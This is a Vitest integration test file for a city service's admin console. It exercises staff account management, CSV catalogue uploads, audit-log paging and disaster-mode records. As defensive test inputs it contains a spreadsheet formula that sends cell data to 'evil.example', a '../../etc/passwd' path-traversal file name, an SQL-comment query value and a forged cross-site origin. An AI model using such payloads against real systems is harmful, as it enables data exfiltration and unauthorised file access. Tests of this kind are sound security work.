import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../support/testServer.ts';
import { testDatabase } from '../support/testDatabase.ts';
import { waitFor } from '../support/waitFor.ts';
import { signIn } from './staffQueue.ts';
import { openDatabase, type Db } from '../../server/src/db/database.ts';
import { createCatalogService, type CatalogService } from '../../server/src/services/catalogService.ts';
import { createAuthService } from '../../server/src/auth/authService.ts';
import { counterIds } from '../../server/src/catalog/seedCatalog.ts';
import { CATALOG_FILES, readCatalog } from '../../shared/catalog/catalogCsv.ts';
import { writeCatalog } from '../../shared/catalog/catalogCsvWrite.ts';
import type { Catalog } from '../../shared/catalog/catalogSchema.ts';
import { getHall } from '../../shared/layout/hallLayout.ts';
import {
  MAX_SHEET_BYTES,
  SHEET_FILES,
  type AuditPage,
  type PasswordReset,
  type SheetFile,
  type SheetRefusal,
  type SheetUploadResult,
  type StaffAccountView,
} from '../../shared/protocol/admin.ts';

/** The physical line (1-based) a sheet's row starts on, found by its first cell. */
function lineOfRow(text: string, firstCell: string): number {
  const at = text.indexOf(`\n${firstCell},`);
  if (at < 0) throw new Error(`no row ${firstCell}`);
  return text.slice(0, at + 1).split('\n').length;
}

const withoutBom = (text: string) => text.replace(/^\uFEFF/, '');

describe('admin console: accounts, catalogue sheets, audit log', () => {
  let server: TestServer;
  let admin: string;
  /**
   * A second connection with its own catalogue copy: another process sharing the database. It only
   * refreshes (what catalogWatch.ts does every 2 s): its furigana would be a second kuromoji in this
   * one thread, which a real second process does not share.
   */
  let otherDb: Db;
  let other: CatalogService;

  const call = (path: string, cookie: string | null, body?: unknown, method = 'POST') =>
    fetch(`${server.url}${path}`, {
      method,
      headers: { 'content-type': 'application/json', ...(cookie ? { cookie } : {}) },
      body: body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body),
    });
  const get = (path: string, cookie: string | null) =>
    fetch(`${server.url}${path}`, { headers: cookie ? { cookie } : {} });
  const json = async <T>(res: Response | Promise<Response>) => (await (await res).json()) as T;
  const login = (username: string, password: string) =>
    call('/api/staff/login', null, { username, password });
  const accounts = () => json<StaffAccountView[]>(get('/api/staff/accounts', admin));
  const idOf = async (username: string) => (await accounts()).find((a) => a.username === username)!.id;
  const download = async (file: SheetFile) =>
    withoutBom(await (await get(`/api/admin/catalog/${file}`, admin)).text());
  const upload = (sheets: { file: SheetFile; text: string }[], extra: object = {}, cookie = admin) =>
    call('/api/admin/catalog', cookie, { sheets, ...extra });
  /** The catalogue as the server serves it now, read back from its own sheets. */
  const served = async (): Promise<Catalog> => {
    const sources = Object.fromEntries(
      await Promise.all(
        Object.entries(CATALOG_FILES).map(async ([kind, { file }]) => [
          kind,
          await download(file as SheetFile),
        ]),
      ),
    );
    return readCatalog(sources as ReturnType<typeof writeCatalog>, counterIds(getHall()));
  };
  const audit = (query = '') => json<AuditPage>(get(`/api/admin/audit${query}`, admin));

  beforeAll(async () => {
    server = await startTestServer();
    admin = await signIn(server.url, 'demo-admin');
    otherDb = openDatabase(await testDatabase(join(server.dataDir, 'test.sqlite'), server.dataDir));
    other = createCatalogService(otherDb);
    await other.load();
  });
  afterAll(async () => {
    await otherDb.destroy();
    await server.stop();
  });

  it('the console names exactly the catalogue sheets the importer reads', () => {
    expect([...SHEET_FILES].sort()).toEqual(
      Object.values(CATALOG_FILES)
        .map((f) => f.file)
        .sort(),
    );
  });

  it('accounts: create, role, department, sign out everywhere, reset password, disable, enable', async () => {
    const started = new Date().toISOString();
    const made = await call('/api/staff/accounts', admin, {
      username: 'yamada',
      displayName: '山田',
      role: 'staff',
      password: 'first password 1',
    });
    expect(made.status).toBe(201);
    const id = ((await made.json()) as { id: number }).id;
    let yamada = await signIn(server.url, 'yamada', 'first password 1');
    expect(await accounts()).toContainEqual(
      expect.objectContaining({ id, username: 'yamada', role: 'staff', disabled: false, department: null }),
    );

    // A new role holds at the account's next request, in the session it already has.
    expect((await call(`/api/staff/accounts/${id}/role`, admin, { role: 'host' })).status).toBe(200);
    expect(await json<{ role: string }>(get('/api/staff/me', yamada))).toMatchObject({ role: 'host' });
    expect(
      (await call(`/api/staff/accounts/${id}/department`, admin, { department: 'shimin-ka' })).status,
    ).toBe(200);
    expect((await accounts()).find((a) => a.id === id)).toMatchObject({
      role: 'host',
      department: 'shimin-ka',
    });

    const out = await json<{ sessionsEnded: number }>(call(`/api/staff/accounts/${id}/sign-out`, admin));
    expect(out.sessionsEnded).toBeGreaterThanOrEqual(1);
    expect((await get('/api/staff/me', yamada)).status).toBe(401);

    // Reset: the server makes the password, shows it once (not cached), and the old one and its sessions end.
    yamada = await signIn(server.url, 'yamada', 'first password 1');
    const reset = await call(`/api/staff/accounts/${id}/password`, admin);
    expect(reset.status).toBe(200);
    expect(reset.headers.get('cache-control')).toBe('no-store');
    const { password } = (await reset.json()) as PasswordReset;
    expect(password).toMatch(/^[a-z2-9]{4}(-[a-z2-9]{4}){3}$/);
    expect((await get('/api/staff/me', yamada)).status).toBe(401);
    expect((await login('yamada', 'first password 1')).status).toBe(401);
    yamada = await signIn(server.url, 'yamada', password);

    // Disabled: the live session ends at once and sign-in is refused; enabled: it works again.
    expect((await call(`/api/staff/accounts/${id}/disable`, admin)).status).toBe(200);
    expect((await get('/api/staff/me', yamada)).status).toBe(401);
    expect((await login('yamada', password)).status).toBe(401);
    expect((await accounts()).find((a) => a.id === id)?.disabled).toBe(true);
    expect((await call(`/api/staff/accounts/${id}/enable`, admin)).status).toBe(200);
    expect((await login('yamada', password)).status).toBe(200);

    // Every change is in the audit log with the admin who made it and when, never with a password.
    const log = await audit(`?actor=demo-admin&action=staff.&limit=200`);
    const mine = log.entries.filter((e) => e.subject === 'yamada' && e.at >= started);
    expect(mine.map((e) => e.action).reverse()).toEqual([
      'staff.create',
      'staff.role',
      'staff.department',
      'staff.signOut',
      'staff.resetPassword',
      'staff.disable',
      'staff.enable',
    ]);
    expect(mine.every((e) => e.actor === 'demo-admin' && !Number.isNaN(Date.parse(e.at)))).toBe(true);
    expect(JSON.stringify(log)).not.toContain(password);
    expect(JSON.stringify(log)).not.toContain('first password 1');
    expect(JSON.parse(mine.find((e) => e.action === 'staff.role')!.detail)).toEqual({ role: 'host' });
  });

  it('refuses what an admin may not do: their own account, bad input, unknown accounts', async () => {
    const self = await idOf('demo-admin');
    for (const what of ['disable', 'sign-out', 'password']) {
      expect((await call(`/api/staff/accounts/${self}/${what}`, admin)).status).toBe(409);
    }
    expect((await call(`/api/staff/accounts/${self}/role`, admin, { role: 'staff' })).status).toBe(409);
    const other = await idOf('demo-staff');
    expect((await call(`/api/staff/accounts/${other}/role`, admin, { role: 'root' })).status).toBe(400);
    expect((await call(`/api/staff/accounts/${other}/role`, admin, {})).status).toBe(400);
    expect(
      (await call(`/api/staff/accounts/${other}/password`, admin, { password: 'chosen by me!' })).status,
    ).toBe(400);
    expect((await call('/api/staff/accounts/abc/role', admin, { role: 'staff' })).status).toBe(400);
    expect((await call('/api/staff/accounts/99999/role', admin, { role: 'staff' })).status).toBe(404);
    expect((await call('/api/staff/accounts/99999/password', admin)).status).toBe(404);
    expect((await get('/api/staff/me', admin)).status).toBe(200);
  });

  it('never leaves the city without an enabled admin, also when two admins demote each other at once', async () => {
    const kimura = await call('/api/staff/accounts', admin, {
      username: 'kimura',
      displayName: '木村',
      role: 'admin',
      password: 'second admin pass',
    });
    expect(kimura.status).toBe(201);
    const kimuraId = ((await kimura.json()) as { id: number }).id;
    const adminId = await idOf('demo-admin');
    const auth = createAuthService(server.db, { sessionHours: 1, maxFailures: 5, lockMinutes: 1 });

    // With two admins one may go; the one left may not.
    await auth.setDisabled(adminId, true);
    await expect(auth.setRole(kimuraId, 'staff')).rejects.toMatchObject({ code: 'lastAdmin' });
    await expect(auth.setDisabled(kimuraId, true)).rejects.toMatchObject({ code: 'lastAdmin' });
    await auth.setDisabled(adminId, false);

    const a = await signIn(server.url, 'demo-admin');
    const k = await signIn(server.url, 'kimura', 'second admin pass');
    const results = await Promise.all([
      call(`/api/staff/accounts/${kimuraId}/role`, a, { role: 'staff' }),
      call(`/api/staff/accounts/${adminId}/role`, k, { role: 'staff' }),
    ]);
    const statuses = results.map((r) => r.status).sort();
    // One wins; the other is refused as the last admin, or as no longer an admin if it came second.
    expect(statuses[0]).toBe(200);
    expect([403, 409]).toContain(statuses[1]);
    const admins = (await auth.listAccounts({ includeDisabled: true })).filter(
      (x) => x.role === 'admin' && !x.disabled,
    );
    expect(admins).toHaveLength(1);
    // Back to demo-admin as the admin of the remaining tests.
    await auth.setRole(adminId, 'admin');
    await auth.setRole(kimuraId, 'staff');
    admin = await signIn(server.url, 'demo-admin');
  });

  it('an upload with one bad row among many changes nothing and lists the problem with file, line and reason', async () => {
    const before = await served();
    const procedures = await download('procedures.csv');
    const victim = before.procedures[7]!;
    const next: Catalog = {
      ...before,
      procedures: before.procedures.map((p) =>
        p.id === victim.id
          ? { ...p, departmentId: 'no-such-department' }
          : { ...p, name: { ...p.name, en: `${p.name.en} (revised)` } },
      ),
      shelters: before.shelters.map((s) => ({ ...s, name: { ...s.name, ja: `${s.name.ja}（改）` } })),
    };
    const sheets = writeCatalog(next);
    const revision = other.revision();
    const res = await upload([
      { file: 'procedures.csv', text: sheets.procedures },
      { file: 'shelters.csv', text: sheets.shelters },
    ]);
    expect(res.status).toBe(422);
    const body = (await res.json()) as SheetRefusal;
    expect(body.error).toBe('invalidSheets');
    expect(body.problems).toEqual([
      {
        file: 'procedures.csv',
        line: lineOfRow(sheets.procedures, victim.id),
        reason: expect.stringContaining('no-such-department'),
      },
    ]);

    // Nothing changed: what the API serves, what the sheets hold, in this process and the other.
    const shown = await json<{ name: { en: string } }>(
      get(`/api/procedures/${before.procedures[0]!.id}`, null),
    );
    expect(shown.name.en).toBe(before.procedures[0]!.name.en);
    const disaster = await json<{ shelters: { name: { ja: string } }[] }>(get('/api/disaster', null));
    expect(disaster.shelters.map((s) => s.name.ja)).toEqual(before.shelters.map((s) => s.name.ja));
    expect(await download('procedures.csv')).toBe(procedures);
    expect(await other.refresh()).toBe(false);
    expect(other.revision()).toBe(revision);
  });

  it('a good upload is served at once, reaches another process, gets furigana, downloads as stored, and is audited', async () => {
    const before = await served();
    const target = before.procedures[0]!;
    const fresh = '転入届の新しい案内';
    const next: Catalog = {
      ...before,
      procedures: before.procedures.map((p) =>
        p.id === target.id ? { ...p, name: { ...p.name, ja: fresh } } : p,
      ),
      hotlines: [
        ...before.hotlines,
        { id: 'new-line', name: { ja: '新しい窓口' }, phone: '0120-111-222', hours: { ja: '平日' } },
      ],
    };
    const sheets = writeCatalog(next);

    // Checking only stores nothing.
    const checked = await json<SheetUploadResult>(
      upload([{ file: 'procedures.csv', text: sheets.procedures }], { checkOnly: true }),
    );
    expect(checked.stored).toBe(false);
    expect((await json<{ name: { ja: string } }>(get(`/api/procedures/${target.id}`, null))).name.ja).toBe(
      target.name.ja,
    );

    const started = new Date().toISOString();
    const res = await upload([
      { file: 'procedures.csv', text: `\uFEFF${sheets.procedures}` },
      { file: 'hotlines.csv', text: sheets.hotlines },
    ]);
    expect(res.status).toBe(200);
    const result = (await res.json()) as SheetUploadResult;
    expect(result).toMatchObject({ stored: true, uploaded: ['procedures.csv', 'hotlines.csv'] });
    expect(result.sheets).toContainEqual({ file: 'hotlines.csv', rows: before.hotlines.length + 1 });

    // This process serves it without a restart; the other picks it up by itself.
    expect((await json<{ name: { ja: string } }>(get(`/api/procedures/${target.id}`, null))).name.ja).toBe(
      fresh,
    );
    await waitFor(
      async () =>
        (await other.refresh()) && other.get().procedures.find((p) => p.id === target.id)?.name.ja === fresh,
      5000,
      'the other process',
    );
    expect(other.get().hotlines.map((h) => h.id)).toContain('new-line');
    await waitFor(
      async () => fresh in (await json<Record<string, unknown>>(get('/api/catalog/readings', null))),
      30_000,
      'furigana of the new text',
      200,
    );

    // A download is what is stored (the other process's fresh read of the database).
    const stored = writeCatalog(other.get());
    expect(await download('procedures.csv')).toBe(stored.procedures);
    expect(await download('hotlines.csv')).toBe(stored.hotlines);
    const csv = await get('/api/admin/catalog/hotlines.csv', admin);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(csv.headers.get('content-disposition')).toBe('attachment; filename="hotlines.csv"');

    const entry = (await audit('?action=catalog.upload&limit=1')).entries[0]!;
    expect(entry).toMatchObject({ actor: 'demo-admin', subject: 'procedures.csv hotlines.csv' });
    expect(entry.at >= started).toBe(true);
    expect(JSON.parse(entry.detail)).toEqual({
      sheets: [
        { file: 'procedures.csv', rows: before.procedures.length },
        { file: 'hotlines.csv', rows: before.hotlines.length + 1 },
      ],
    });
  });

  it('a catalogue stored by another process (or the CLI) is served here within seconds', async () => {
    await other.refresh();
    const target = other.get().procedures[1]!;
    const renamed = `${target.name.ja}（別の処理で更新）`;
    await other.replace({
      ...other.get(),
      procedures: other
        .get()
        .procedures.map((p) => (p.id === target.id ? { ...p, name: { ...p.name, ja: renamed } } : p)),
    });
    await waitFor(
      async () =>
        (await json<{ name: { ja: string } }>(get(`/api/procedures/${target.id}`, null))).name.ja === renamed,
      10_000,
      'the server to read the catalogue again',
      100,
    );
  });

  it('formula cells in an uploaded sheet stay data: served as typed, kept through later uploads', async () => {
    const before = await served();
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const next: Catalog = {
      ...before,
      hotlines: before.hotlines.map((h, i) => (i === 0 ? { ...h, name: { ...h.name, en: formula } } : h)),
    };
    expect((await upload([{ file: 'hotlines.csv', text: writeCatalog(next).hotlines }])).status).toBe(200);
    const servedName = async () =>
      (await json<{ hotlines: { name: { en: string } }[] }>(get('/api/disaster', null))).hotlines[0]!.name.en;
    expect(await servedName()).toBe(formula);
    // Another sheet's upload rebuilds the rest from what is stored: the cell must come through unchanged.
    const shelters = await download('shelters.csv');
    expect((await upload([{ file: 'shelters.csv', text: shelters }])).status).toBe(200);
    expect(await servedName()).toBe(formula);
    expect((await served()).hotlines[0]!.name.en).toBe(formula);
  });

  it('refuses the signed-out, non-admins, forged fields, oversized, malformed and strange uploads', async () => {
    const staff = await signIn(server.url, 'demo-staff');
    const text = await download('hotlines.csv');
    const sheet = [{ file: 'hotlines.csv' as const, text }];
    expect((await upload(sheet, {}, '')).status).toBe(401);
    expect((await get('/api/admin/catalog/hotlines.csv', null)).status).toBe(401);
    expect((await get('/api/admin/audit', null)).status).toBe(401);
    expect((await get('/api/admin/catalog', null)).status).toBe(401);
    // A role, an actor or another name in the body changes nothing: who it is comes from the session.
    expect((await upload(sheet, { role: 'admin' }, staff)).status).toBe(403);
    expect((await get('/api/admin/audit?actor=demo-admin', staff)).status).toBe(403);
    expect((await get('/api/admin/catalog/hotlines.csv', staff)).status).toBe(403);
    const staffId = await idOf('demo-staff');
    expect((await call(`/api/staff/accounts/${staffId}/role`, staff, { role: 'admin' })).status).toBe(403);
    expect((await get('/api/staff/me', staff)).status).toBe(200);
    expect(await json<{ role: string }>(get('/api/staff/me', staff))).toMatchObject({ role: 'staff' });
    // From another site, even with the admin's cookie: refused before anything is read.
    const crossSite = await fetch(`${server.url}/api/admin/catalog`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', cookie: admin, origin: 'https://evil.example' },
      body: JSON.stringify({ sheets: sheet }),
    });
    expect(crossSite.status).toBe(403);
    const forged = await upload(sheet, { actor: 'demo-staff' });
    expect(forged.status).toBe(400);
    expect(
      (
        await call('/api/staff/accounts', admin, {
          username: 'forger',
          displayName: 'F',
          role: 'staff',
          password: 'long enough pass',
          actor: 'someone-else',
        })
      ).status,
    ).toBe(400);

    // Too large: one sheet over its limit (named), or a body over the whole limit.
    const big = await upload([{ file: 'faq.csv', text: 'x'.repeat(MAX_SHEET_BYTES + 1) }]);
    expect(big.status).toBe(413);
    expect(((await big.json()) as SheetRefusal).problems).toEqual([
      { file: 'faq.csv', line: null, reason: expect.stringContaining('larger than') },
    ]);
    const huge = await upload(SHEET_FILES.map((file) => ({ file, text: '"'.repeat(MAX_SHEET_BYTES - 1) })));
    expect(huge.status).toBe(413);
    expect(((await huge.json()) as SheetRefusal).error).toBe('tooLarge');

    // Malformed JSON, not JSON at all, unknown or repeated file names, no sheets.
    expect((await call('/api/admin/catalog', admin, '{"sheets": [')).status).toBe(400);
    const asCsv = await fetch(`${server.url}/api/admin/catalog`, {
      method: 'POST',
      headers: { 'content-type': 'text/csv', cookie: admin },
      body: text,
    });
    expect(asCsv.status).toBe(400);
    expect(
      (await call('/api/admin/catalog', admin, { sheets: [{ file: '../../etc/passwd', text }] })).status,
    ).toBe(400);
    expect((await upload([...sheet, ...sheet])).status).toBe(400);
    expect((await upload([])).status).toBe(400);
    expect((await get('/api/admin/catalog/..%2F..%2Fpackage.json', admin)).status).toBe(400);

    // A workbook sent as text, a broken quote, a missing column: listed, nothing stored.
    const strange = await upload([
      { file: 'faq.csv', text: 'PK\u0003\u0004\u0000\u0000binary' },
      { file: 'shelters.csv', text: 'id,name_ja\n"unclosed,避難所\n' },
    ]);
    expect(strange.status).toBe(422);
    const listed = ((await strange.json()) as SheetRefusal).problems;
    expect(listed).toContainEqual({
      file: 'faq.csv',
      line: null,
      reason: expect.stringContaining('CSV UTF-8'),
    });
    expect(listed).toContainEqual({ file: 'shelters.csv', line: 2, reason: expect.any(String) });
    expect(await download('hotlines.csv')).toBe(text);
  });

  it('reads the audit log a page at a time, newest first, filtered by who or what', async () => {
    const first = await audit('?limit=2');
    expect(first.entries).toHaveLength(2);
    expect(first.entries[0]!.id).toBeGreaterThan(first.entries[1]!.id);
    expect(first.next).toBe(first.entries[1]!.id);
    const second = await audit(`?limit=2&before=${first.next}`);
    expect(second.entries[0]!.id).toBeLessThan(first.entries[1]!.id);
    const all = await audit('?limit=200');
    expect(all.next).toBeNull();
    expect(all.entries.every((e) => e.actor.length > 0)).toBe(true);
    const staffOnly = await audit('?action=staff.&limit=200');
    expect(staffOnly.entries.length).toBeGreaterThan(0);
    expect(staffOnly.entries.every((e) => e.action.startsWith('staff.'))).toBe(true);
    for (const bad of ['?limit=0', '?limit=1000', '?before=-1', '?action=%25', "?action=x'--", '?other=1']) {
      expect((await get(`/api/admin/audit${bad}`, admin)).status, bad).toBe(400);
    }
  });

  it('records disaster mode, announcements and call-ups with who did them', async () => {
    expect((await call('/api/disaster/on', admin, { reason: '訓練' })).status).toBe(200);
    expect((await call('/api/disaster/off', admin)).status).toBe(200);
    const sent = await call('/api/callups', admin, { message: '訓練の参集' });
    const { id } = (await sent.json()) as { id: number };
    expect((await call(`/api/callups/${id}/close`, admin)).status).toBe(200);
    const made = await call('/api/announcements', admin, {
      texts: { ja: '訓練のお知らせ' },
      severity: 'info',
    });
    const announcement = (await made.json()) as { id: number };
    expect((await call(`/api/announcements/${announcement.id}/end`, admin)).status).toBe(200);
    const actions = (await audit('?limit=10')).entries.map((e) => `${e.actor} ${e.action}`);
    expect(actions.slice(0, 6)).toEqual([
      'demo-admin announcement.end',
      'demo-admin announcement.create',
      'demo-admin callup.close',
      'demo-admin callup.send',
      'demo-admin disaster.off',
      'demo-admin disaster.on',
    ]);
  });
});
